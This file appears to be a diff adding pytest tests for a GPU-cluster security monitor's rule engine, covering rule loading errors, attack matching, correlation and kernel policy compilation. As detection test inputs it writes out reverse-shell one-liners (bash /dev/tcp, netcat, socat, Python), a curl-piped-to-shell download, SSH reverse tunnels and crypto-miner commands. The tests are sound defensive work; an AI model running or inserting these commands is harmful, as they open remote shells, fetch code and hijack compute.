@@ -1,0 +1,167 @@
+"""Rules as data: loading, validation errors, matching, policy compilation, correlation (pure logic)."""
+
+from __future__ import annotations
+
+import pytest
+
+from collector.correlate import Correlator
+from collector.policy import compile_policy
+from collector.rules.engine import Engine, JobContext, short_options
+from collector.rules.loader import RuleError, load_ruleset, rule_texts
+from gpuguard.v1 import events_pb2 as pb
+
+
+@pytest.fixture(scope="module")
+def builtin():
+    return load_ruleset(rule_texts())
+
+
+def exec_event(argv: list[str], filename: str = "", job: str = "4242", seq: int = 1, key: str = "k1",
+               ancestors: tuple[str, ...] = ()) -> pb.Event:
+    ev = pb.Event(seq=seq, ts_ns=seq * 1_000_000_000, exec=pb.Exec(filename=filename or argv[0], argv=argv))
+    ev.job.kind, ev.job.id = "slurm", job
+    ev.process.key, ev.process.pid = key, 100 + seq
+    ev.process.comm = (filename or argv[0]).rsplit("/", 1)[-1][:15]
+    ev.process.exe = filename or argv[0]
+    for a in ancestors:
+        ev.process.ancestors.add(key=a)
+    return ev
+
+
+def connect_event(port: int, addr: str = "203.0.113.7", key: str = "k1", seq: int = 2, exe: str = "/x") -> pb.Event:
+    ev = pb.Event(seq=seq, ts_ns=seq * 1_000_000_000, connect=pb.Connect(daddr=addr, dport=port, proto="tcp"))
+    ev.job.kind, ev.job.id = "slurm", "4242"
+    ev.process.key, ev.process.exe = key, exe
+    return ev
+
+
+def rule_ids(engine: Engine, ev: pb.Event, ctx: JobContext | None = None) -> set[str]:
+    return {m.rule.id for m in engine.evaluate("h1", ev, ctx or JobContext())}
+
+
+def test_builtin_rules_load(builtin):
+    assert {"miner-binary", "ssh-reverse-tunnel", "stratum-handshake", "reverse-shell-dev-tcp"} <= set(builtin.rules)
+    assert builtin.default_mode == "enforce"
+
+
+@pytest.mark.parametrize("text,expected", [
+    ("rules:\n  - id: x\n    description: d\n    event: exec\n    match:\n      argv_regex: '('\n",
+     "bad.yaml:6: rule x.match.argv_regex: bad regex"),
+    ("rules:\n  - id: x\n    description: d\n    event: connect\n    match:\n      dport_in: [22]\n    action: explode\n",
+     "bad.yaml:7: rule x.action: 'explode' is not one of"),
+    ("rules:\n  - id: x\n    description: d\n    event: connect\n    match:\n      dport_in: $nope\n",
+     "bad.yaml:6: rule x.match.dport_in: unknown list '$nope'"),
+    ("rules:\n  - id: x\n    event: exec\n    match: {argv_regex: a}\n", "bad.yaml:2: rule x: missing required field"),
+    ("rules:\n  - id: x\n    description: d\n    event: exec\n    match: {dport_in: [22]}\n",
+     "bad.yaml:5: rule x.match.dport_in: not available for event 'exec'"),
+    ("rules: [\n", "bad.yaml:2: yaml:"),
+])
+def test_errors_name_file_line_and_field(text, expected):
+    with pytest.raises(RuleError) as info:
+        load_ruleset(rule_texts(extra=(("bad.yaml", text),)))
+    assert str(info.value).startswith(expected), str(info.value)
+
+
+@pytest.mark.parametrize("argv,expected", [
+    (["/tmp/.x/xmrig", "-c", "config.json"], {"miner-binary", "exec-from-staging-dir"}),
+    (["/opt/lolMiner", "--algo", "ETHASH", "--pool", "eu1.example:4444"], {"miner-binary", "miner-argv-shape"}),
+    (["/usr/bin/python3", "run.py", "-o", "stratum+tcp://pool.example:3333", "-u", "4ABC"], {"miner-stratum-url"}),
+    (["/opt/m", "--donate-level", "1", "-a", "rx/0"], {"miner-argv-shape"}),
+    (["/usr/bin/ssh", "-NfR", "2222:localhost:22", "evil.example"], {"ssh-reverse-tunnel"}),
+    (["/usr/bin/ssh", "-D", "1080", "-N", "proxy.example"], {"ssh-reverse-tunnel"}),
+    (["/usr/bin/ssh", "-o", "RemoteForward=2222 localhost:22", "h"], {"ssh-forward-by-option"}),
+    (["/usr/local/bin/chisel", "client", "h:8080", "R:socks"], {"tunnel-tool"}),
+    (["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], {"reverse-shell-dev-tcp"}),
+    (["/usr/bin/nc", "203.0.113.9", "4444", "-e", "/bin/sh"], {"reverse-shell-netcat"}),
+    (["/usr/bin/socat", "TCP:203.0.113.9:4444", "EXEC:/bin/sh,pty"], {"reverse-shell-netcat"}),
+    (["/usr/bin/python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)"],
+     {"reverse-shell-oneliner"}),
+    (["/bin/sh", "-c", "curl -s http://x.example/i.sh | sh"], {"download-piped-to-shell"}),
+])
+def test_attack_shapes_match(builtin, argv, expected):
+    assert rule_ids(Engine(builtin), exec_event(argv)) == expected
+
+
+@pytest.mark.parametrize("argv", [
+    ["/usr/bin/ssh", "-L", "8888:localhost:8888", "-N", "login.example"],
+    ["/usr/bin/ssh", "-T", "git@git.example"],
+    ["/usr/bin/ssh", "node2", "hostname"],
+    ["/usr/bin/python3", "train.py", "--lr", "3e-4", "--epochs", "3"],
+    ["/usr/bin/torchrun", "--nproc_per_node=8", "--rdzv_endpoint=node1:29400", "train.py"],
+    ["/usr/bin/pip", "download", "numpy"],
+    ["/usr/bin/nvidia-smi", "-q"],
+    ["/usr/bin/git", "clone", "ssh://git@git.example/repo.git"],
+    ["/usr/bin/mpirun", "-np", "4", "python3", "train.py"],
+])
+def test_benign_gpu_node_commands_stay_quiet(builtin, argv):
+    assert rule_ids(Engine(builtin), exec_event(argv)) == set()
+
+
+def test_failed_exec_matches_nothing(builtin):
+    ev = exec_event(["/tmp/xmrig"])
+    ev.exec.result = -2
+    assert rule_ids(Engine(builtin), ev) == set()
+
+
+def test_short_options_mirror_the_kernel_rule():
+    assert short_options(["ssh", "-NfR", "1:h:2", "-oExitOnForwardFailure=yes", "-R8080:h:22", "--long"]) == \
+        {"N", "f", "R", "o"}
+
+
+def test_gpu_new_binary_and_pool_port_correlate(builtin):
+    engine, corr = Engine(builtin), Correlator(builtin)
+    train = exec_event(["/usr/bin/python3", "train.py"], key="main", seq=1)
+    corr.observe("h1", train)
+    first_gpu = pb.Event(seq=2, ts_ns=2_000_000_000, gpu_open=pb.GpuOpen(path="/dev/nvidia0"))
+    first_gpu.job.kind, first_gpu.job.id = "slurm", "4242"
+    first_gpu.process.key, first_gpu.process.exe = "main", "/usr/bin/python3"
+    assert rule_ids(engine, first_gpu, corr.context("h1", first_gpu)) == set()   # the job's own trainer
+    corr.observe("h1", first_gpu)
+    miner_gpu = pb.Event(seq=3, ts_ns=3_000_000_000, gpu_open=pb.GpuOpen(path="/dev/nvidia0"))
+    miner_gpu.job.kind, miner_gpu.job.id = "slurm", "4242"
+    miner_gpu.process.key, miner_gpu.process.exe = "m", "/tmp/kworker"
+    miner_gpu.process.ancestors.add(key="main")
+    hits = engine.evaluate("h1", miner_gpu, corr.context("h1", miner_gpu))
+    assert [m.rule.id for m in hits] == ["gpu-open-new-binary"]
+    assert corr.record("h1", miner_gpu, hits) == []
+    pool = connect_event(3333, key="m", seq=4, exe="/tmp/kworker")
+    pool_hits = engine.evaluate("h1", pool, corr.context("h1", pool))
+    assert [m.rule.id for m in pool_hits] == ["connect-pool-port"]
+    fired = corr.record("h1", pool, pool_hits)
+    assert [c.id for c, _ev in fired] == ["new-gpu-binary-to-pool-port"]
+    assert [h.event.seq for h in fired[0][1]] == [3, 4]
+    assert corr.record("h1", pool, pool_hits) == []                     # fires once per job
+
+
+def test_policy_compiles_kernel_enforceable_rules(builtin):
+    policy = compile_policy(builtin, 7)
+    ssh = [k for k in policy.kill if k.rule_id == "ssh-reverse-tunnel"]
+    assert {k.comm for k in ssh} == {"ssh", "autossh"} and all(k.options == "RDw" for k in ssh)
+    assert any(k.comm == "xmrig" and k.options == "" for k in policy.kill)
+    assert not any(k.rule_id == "miner-stratum-url" for k in policy.kill)    # argv regex: userspace kill
+    assert [(s.rule_id, s.drop) for s in policy.stratum] == [("stratum-handshake", True)]
+    assert list(policy.stratum[0].scope.job_kinds) == ["slurm", "k8s", "container"]
+    assert not any(k.scope.host_wide for k in policy.kill)                # built-ins never touch the host
+
+
+def test_job_modes_split_enforce_and_monitor_scopes():
+    rs = load_ruleset(rule_texts(extra=(("user.yaml", "job_modes: {'77': monitor}\n"),)))
+    policy = compile_policy(rs, 1)
+    xmrig = next(k for k in policy.kill if k.comm == "xmrig")
+    assert list(xmrig.scope.exclude_job_ids) == ["77"]
+    assert {(s.drop, tuple(s.scope.job_ids)) for s in policy.stratum} == {(True, ()), (False, ("77",))}
+    assert rs.mode_for("", "77") == "monitor" and rs.mode_for("", "78") == "enforce"
+
+
+def test_user_file_overrides_and_extends(builtin):
+    user = ("lists:\n  miner_names: [xmrig, my-internal-miner]\n"
+            "rules:\n  - id: no-egress-to-prod-db\n    description: jobs must not reach the prod DB\n"
+            "    event: connect\n    match: {daddr_cidr_in: [198.51.100.0/24], dport_in: [5432]}\n"
+            "    scope: {job_kinds: [slurm]}\n    action: block\n")
+    rs = load_ruleset(rule_texts(extra=(("user.yaml", user),)))
+    policy = compile_policy(rs, 2)
+    deny = [d for d in policy.deny if d.rule_id == "no-egress-to-prod-db"]
+    assert [(d.cidr, d.port) for d in deny] == [("198.51.100.0/24", 5432)]
+    assert rule_ids(Engine(rs), connect_event(5432, "198.51.100.20")) >= {"no-egress-to-prod-db"}
+    assert rule_ids(Engine(rs), exec_event(["/opt/my-internal-miner"])) == {"miner-binary"}   # list override
+    assert not any(k.comm == "lolMiner" for k in policy.kill)
